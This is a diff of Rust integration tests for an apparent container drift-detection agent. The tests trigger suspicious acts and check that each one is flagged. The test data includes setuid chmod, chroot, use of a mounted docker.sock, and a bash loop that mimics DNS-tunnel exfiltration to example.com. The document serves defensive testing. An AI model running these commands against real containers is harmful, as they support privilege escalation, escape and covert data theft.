@@ -1,9 +1,11 @@
 //! Learn, drift, alert at the SIEM: for each kind of behaviour.
 
-use super::line::{Line, text};
-use norma_rig::net::{Peer, free_port};
-use norma_rig::{AgentSettings, skip};
+use super::line::{LIMIT, Line, text};
+use norma_rig::net::{Peer, free_port, is_listening};
+use norma_rig::{AgentSettings, skip, wait_until};
 use serde_json::Value;
+use std::net::{IpAddr, TcpStream, UdpSocket};
+use std::os::unix::net::UnixListener;
 use std::time::Duration;
 
 fn short() -> AgentSettings {
@@ -208,4 +210,108 @@ fn a_flood_of_made_up_names_does_not_hide_what_follows() {
     });
     assert_ne!(text(&hidden, "/verdict/severity"), "info", "{hidden:#}");
     line.alert(&["drift.new-write", "/srv-data"]);
+}
+
+#[test]
+fn each_way_on_from_a_container_is_a_finding_of_its_kind() {
+    if !skip::unless_root("each_way_on_from_a_container_is_a_finding_of_its_kind") {
+        return;
+    }
+    let mut line = Line::prepare_with("ways", &short(), |scratch, spec| {
+        spec.programs.push("/usr/bin/chmod".into());
+        spec.programs.push("/usr/sbin/chroot".into());
+        spec.volumes
+            .push((scratch.folder("volume").unwrap(), "/srv".to_owned()));
+    });
+    line.agent.run(&line.scratch).unwrap();
+    line.learn();
+    // What others put there, and the image did not ship.
+    let volume = line.scratch.join("volume");
+    let program = line.container.host_path("/usr/bin/true");
+    std::fs::copy(&program, volume.join("tool")).unwrap();
+    std::fs::copy(&program, line.container.host_path("/usr/bin/apk")).unwrap();
+    let _runtime = UnixListener::bind(volume.join("docker.sock")).unwrap();
+    for (act, kind) in [
+        ("apk", "drift.package-manager"),
+        ("/srv/tool", "drift.executable-on-volume"),
+        (
+            "cat /usr/bin/true > /tmp/tool; chmod 755 /tmp/tool; /tmp/tool",
+            "drift.executable-in-memory-filesystem",
+        ),
+        (
+            "norma-load reach /srv/docker.sock",
+            "drift.container-runtime-socket",
+        ),
+        ("chmod 4755 /usr/bin/apk", "drift.setuid-file"),
+        ("chroot / true", "drift.mount"),
+    ] {
+        assert_eq!(line.order(act), 0, "{act}");
+        finding(&line, kind);
+    }
+}
+
+#[test]
+fn data_that_leaves_by_dns_is_a_finding_while_the_workload_is_learned() {
+    if !skip::unless_root("data_that_leaves_by_dns_is_a_finding_while_the_workload_is_learned") {
+        return;
+    }
+    let learning = AgentSettings {
+        learning: Duration::from_secs(3600),
+        ..AgentSettings::default()
+    };
+    let line = Line::start("tunnel", &learning);
+    // A query for a label of 32 letters below example.com, which bash can put together by itself.
+    let ask = "for ((i = 0; i < 70; i++)); do n=; for ((j = 0; j < 16; j++)); do \
+               printf -v n '%s%02x' \"$n\" $((RANDOM % 256)); done; \
+               printf \"\\\\x00\\\\x01\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00 $n\\\\x07example\\\\x03com\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01\" \
+               > /dev/udp/127.0.0.53/53; done 2> /dev/null";
+    line.order(ask);
+    let event = finding(&line, "drift.dns-tunnel");
+    assert!(text(&event, "/dns/name").ends_with(".example.com"), "{event:#}");
+    assert_eq!(text(&event, "/verdict/kind"), "violation", "{event:#}");
+}
+
+/// An address of this machine that others reach it by.
+fn own_address() -> Option<IpAddr> {
+    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
+    // Nothing is sent: the kernel only looks where it would send from.
+    socket.connect("192.0.2.1:9").ok()?;
+    let address = socket.local_addr().ok()?.ip();
+    (!address.is_loopback() && !address.is_unspecified()).then_some(address)
+}
+
+#[test]
+fn a_kind_of_peer_that_none_came_from_before_is_a_finding() {
+    if !skip::unless_root("a_kind_of_peer_that_none_came_from_before_is_a_finding") {
+        return;
+    }
+    let Some(address) = own_address() else {
+        println!(
+            "skipped: a_kind_of_peer_that_none_came_from_before_is_a_finding: this machine has no address but loopback"
+        );
+        return;
+    };
+    let port = free_port().unwrap();
+    let settings = AgentSettings {
+        learning: Duration::from_secs(12),
+        ..AgentSettings::default()
+    };
+    let line = Line::start("inbound", &settings);
+    assert_eq!(line.order(&format!("norma-load welcome {port} & true")), 0);
+    wait_until("the workload to listen", LIMIT, || {
+        Ok(is_listening(port)?.then_some(()))
+    })
+    .unwrap();
+    let accepted = |from: IpAddr| {
+        drop(TcpStream::connect((from, port)).unwrap());
+        line.event("the accepted connection", |event| {
+            text(event, "/socket/name") == "accepted"
+                && text(event, "/socket/remote_address") == from.to_string()
+        })
+    };
+    let learned = accepted([127, 0, 0, 1].into());
+    assert_eq!(text(&learned, "/verdict/kind"), "learning", "{learned:#}");
+    line.learn();
+    accepted(address);
+    finding(&line, "drift.new-inbound-class");
 }
